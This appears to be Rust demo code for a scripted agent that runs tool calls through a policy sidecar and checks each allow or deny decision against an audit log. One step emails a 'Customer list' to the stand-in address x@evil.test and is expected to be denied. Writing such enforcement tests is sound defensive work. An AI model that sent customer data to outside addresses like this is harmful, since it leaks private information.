//! The scripted agent: one MCP session per tool server through the sidecar, a
//! fixed sequence of calls, and for each call the decision and rule the sidecar
//! wrote to its audit log.

use std::path::Path;
use std::time::{Duration, Instant};

use anyhow::{Context as _, bail};
use chaperone_demo::ToolSet;
use rmcp::model::{
    CallToolRequestParams, ClientCapabilities, ClientConfig, Implementation, JsonObject,
};
use rmcp::service::{RunningService, ServiceError};
use rmcp::transport::StreamableHttpClientTransport;
use rmcp::{RoleClient, ServiceExt};
use serde_json::{Value, json};

/// How long the audit record of a call may take to appear.
const AUDIT_WAIT: Duration = Duration::from_secs(5);

/// One call of the script.
struct Step {
    server: ToolSet,
    tool: &'static str,
    /// Arguments, in the order they are shown.
    args: Vec<(&'static str, Value)>,
    /// The decision the policy in examples/basic should make.
    expect: &'static str,
}

impl Step {
    fn new(
        server: ToolSet,
        tool: &'static str,
        args: Vec<(&'static str, Value)>,
        expect: &'static str,
    ) -> Self {
        Self {
            server,
            tool,
            args,
            expect,
        }
    }

    /// `orders/refund(orderId="A-1001", amount=50)`.
    fn label(&self) -> String {
        let args: Vec<String> = self.args.iter().map(|(k, v)| format!("{k}={v}")).collect();
        format!(
            "{}/{}({})",
            self.server.server_name(),
            self.tool,
            args.join(", ")
        )
    }

    fn arguments(&self) -> JsonObject {
        self.args
            .iter()
            .map(|(k, v)| ((*k).to_owned(), v.clone()))
            .collect()
    }
}

/// The session: look an order up, refund within and above the limit, mail
/// inside and outside example.com, then read the inbox (sensitive data) and
/// try to mail again.
fn script() -> Vec<Step> {
    use ToolSet::{Mail, Orders};
    vec![
        Step::new(Orders, "get_order", vec![("id", json!("A-1001"))], "allow"),
        Step::new(
            Orders,
            "refund",
            vec![("orderId", json!("A-1001")), ("amount", json!(50))],
            "allow",
        ),
        Step::new(
            Orders,
            "refund",
            vec![("orderId", json!("A-1001")), ("amount", json!(5000))],
            "deny",
        ),
        Step::new(
            Mail,
            "send_email",
            vec![
                ("to", json!("someone@example.com")),
                ("subject", json!("Your refund")),
            ],
            "allow",
        ),
        Step::new(
            Mail,
            "send_email",
            vec![
                ("to", json!("x@evil.test")),
                ("subject", json!("Customer list")),
            ],
            "deny",
        ),
        Step::new(Mail, "read_inbox", vec![], "allow"),
        Step::new(
            Mail,
            "send_email",
            vec![
                ("to", json!("someone@example.com")),
                ("subject", json!("Re: Where is my refund?")),
            ],
            "deny",
        ),
    ]
}

pub(crate) type Client = RunningService<RoleClient, ClientConfig>;

async fn connect(sidecar: &str, server: ToolSet) -> anyhow::Result<Client> {
    connect_to(sidecar, server.server_name()).await
}

/// An MCP session with tool server `server` through the sidecar at `sidecar`.
pub(crate) async fn connect_to(sidecar: &str, server: &str) -> anyhow::Result<Client> {
    let url = format!("{}/{}", sidecar.trim_end_matches('/'), server);
    let transport = StreamableHttpClientTransport::from_uri(url.clone());
    let info = ClientConfig::new(
        ClientCapabilities::default(),
        Implementation::new("chaperone-demo-agent", env!("CARGO_PKG_VERSION")),
    );
    info.serve(transport)
        .await
        .with_context(|| format!("opening an MCP session with {url} (is the sidecar running?)"))
}

/// The sidecar's audit records (JSON lines of its standard output; other lines
/// are skipped).
pub(crate) fn audit_records(path: &Path) -> anyhow::Result<Vec<Value>> {
    let text = match std::fs::read_to_string(path) {
        Ok(text) => text,
        Err(err) if err.kind() == std::io::ErrorKind::NotFound => String::new(),
        Err(err) => return Err(err).with_context(|| format!("reading {}", path.display())),
    };
    Ok(text
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|record| record.get("decision").is_some())
        .collect())
}

/// The newest `tools/call` record for `server`/`tool` after the first `skip`
/// records, waiting up to [`AUDIT_WAIT`] for it.
pub(crate) async fn decision_of(
    path: &Path,
    skip: usize,
    server: &str,
    tool: &str,
) -> anyhow::Result<Option<Value>> {
    let start = Instant::now();
    loop {
        let found = audit_records(path)?
            .into_iter()
            .skip(skip)
            .rfind(|r| r["method"] == "tools/call" && r["server"] == server && r["tool"] == tool);
        if found.is_some() || start.elapsed() > AUDIT_WAIT {
            return Ok(found);
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

pub(crate) fn text_of(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        Value::Null => "-".to_owned(),
        other => other.to_string(),
    }
}

/// Runs the script against the sidecar at `sidecar`, reading decisions from
/// `audit_log`. Fails when a decision differs from what the policy should say.
pub async fn run(sidecar: &str, audit_log: &Path) -> anyhow::Result<()> {
    let steps = script();
    let orders = connect(sidecar, ToolSet::Orders).await?;
    let mail = connect(sidecar, ToolSet::Mail).await?;

    println!("tools/list through the sidecar (filtered by the same rules as calls):");
    for (set, client) in [(ToolSet::Orders, &orders), (ToolSet::Mail, &mail)] {
        let listed = client
            .list_all_tools()
            .await
            .with_context(|| format!("tools/list on {}", set.server_name()))?;
        let names: Vec<&str> = listed.iter().map(|t| t.name.as_ref()).collect();
        let hidden: Vec<&str> = set
            .tools()
            .iter()
            .map(|t| t.name)
            .filter(|name| !names.contains(name))
            .collect();
        let hidden = if hidden.is_empty() {
            String::new()
        } else {
            format!("   (hidden: {})", hidden.join(", "))
        };
        println!(
            "  {:<7} {}{hidden}",
            set.server_name(),
            if names.is_empty() {
                "(nothing)".to_owned()
            } else {
                names.join(", ")
            }
        );
    }
    println!();

    let width = steps
        .iter()
        .map(|s| s.label().chars().count())
        .max()
        .unwrap_or(4);
    println!("{:<width$} | {:<8} | rule", "call", "decision");
    println!(
        "{}-+-{}-+-{}",
        "-".repeat(width),
        "-".repeat(8),
        "-".repeat(44)
    );
    let mut surprises = Vec::new();
    let mut refusals = Vec::new();
    for step in &steps {
        let client = match step.server {
            ToolSet::Orders => &orders,
            ToolSet::Mail => &mail,
            ToolSet::Billing => bail!("the script does not use the billing server"),
        };
        let before = audit_records(audit_log)?.len();
        let outcome = client
            .call_tool(CallToolRequestParams::new(step.tool).with_arguments(step.arguments()))
            .await;
        let record = decision_of(audit_log, before, step.server.server_name(), step.tool).await?;
        let (decision, rule) = match &record {
            Some(r) => (text_of(&r["decision"]), text_of(&r["rule"])),
            None => (
                "?".to_owned(),
                format!("no audit record in {}", audit_log.display()),
            ),
        };
        let mut row = format!("{:<width$} | {decision:<8} | {rule}", step.label());
        if decision != step.expect {
            row.push_str(&format!("   <- expected {}", step.expect));
            surprises.push(step.label());
        }
        println!("{row}");
        match outcome {
            Ok(result) if result.is_error == Some(true) => {
                refusals.push(format!("{}: tool error {:?}", step.label(), result.content))
            }
            Ok(_) if decision != "allow" => {
                refusals.push(format!("{}: answered although {decision}", step.label()))
            }
            Ok(_) => {}
            Err(ServiceError::McpError(err)) => {
                refusals.push(format!("{}: {} {}", step.label(), err.code.0, err.message))
            }
            Err(err) => refusals.push(format!("{}: {err}", step.label())),
        }
    }
    println!();
    if !refusals.is_empty() {
        println!("What the agent got back for the refused calls (JSON-RPC errors):");
        for refusal in &refusals {
            println!("  {refusal}");
        }
    }
    for client in [orders, mail] {
        let _ = client.cancel().await;
    }
    if !surprises.is_empty() {
        bail!(
            "the sidecar decided differently than examples/basic expects for: {}",
            surprises.join("; ")
        );
    }
    Ok(())
}
